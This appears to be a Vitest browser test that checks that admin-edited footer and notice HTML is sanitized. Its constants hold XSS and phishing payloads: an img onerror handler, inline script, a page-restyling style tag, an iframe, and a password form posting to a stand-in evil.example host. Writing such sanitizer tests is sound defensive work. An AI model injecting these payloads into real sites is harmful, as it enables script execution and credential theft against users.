import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type RunningProduct, startProduct, signInAsRoot } from './harness';
import { PageWatch } from './page-checks';

const HOSTILE_FOOTER = '<b>页脚文字</b><img src="x" onerror="window.__xss = 1"><script>window.__xss = 2</script>';
/** As an audit wrote it: a <style> that turned every page red, a password form, a frame and a handler. */
const HOSTILE_NOTICE = [
  '<p>系统维护通知，详见<a href="https://status.example.com/">状态页</a></p>',
  '<style>body { background: rgb(255, 0, 0) !important }</style>',
  '<form action="https://evil.example/"><input name="password" type="password"><button>重新登录</button></form>',
  '<iframe src="https://evil.example/"></iframe>',
  '<img src="x" onerror="window.__xss = 3">',
].join('');

describe('admin-edited HTML is sanitized before rendering', () => {
  let product: RunningProduct;
  beforeAll(async () => {
    product = await startProduct('branding');
  });
  afterAll(async () => {
    await product?.stop();
  });

  it('renders the footer and notice markup without their styles, forms, frames and scripts, and without a CSP report', async () => {
    await signInAsRoot(product);
    const { page, url } = product;

    const saved = await page.evaluate(
      async (values) => {
        const save = (key: string, value: string) =>
          fetch('/api/option/', {
            method: 'PUT',
            headers: { 'Content-Type': 'application/json', 'New-Api-User': '1' },
            body: JSON.stringify({ key, value }),
          }).then((reply) => reply.json());
        return [await save('Footer', values.footer), await save('Notice', values.notice)];
      },
      { footer: HOSTILE_FOOTER, notice: HOSTILE_NOTICE },
    );
    expect(saved.map((reply: { success: boolean }) => reply.success)).toEqual([true, true]);

    const watch = await PageWatch.start(page);
    watch.begin();
    await page.goto(`${url}/update`);
    await page.locator('.shell-footer b').waitFor();
    await page.getByRole('link', { name: '状态页' }).waitFor();
    await watch.settle();
    await product.screenshot('footer-and-notice');

    expect(await page.locator('.shell-footer b').textContent()).toBe('页脚文字');
    expect(await page.getByRole('link', { name: '状态页' }).getAttribute('href')).toBe('https://status.example.com/');
    expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).not.toBe('rgb(255, 0, 0)');
    expect(await page.locator('input[name="password"], iframe, [onerror], body style').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    expect(await page.locator('body script:not([src])').count()).toBe(0);
    // The sanitizer takes handlers out before the browser parses the markup, which would report each one.
    expect(watch.errors).toEqual([]);
  });
});
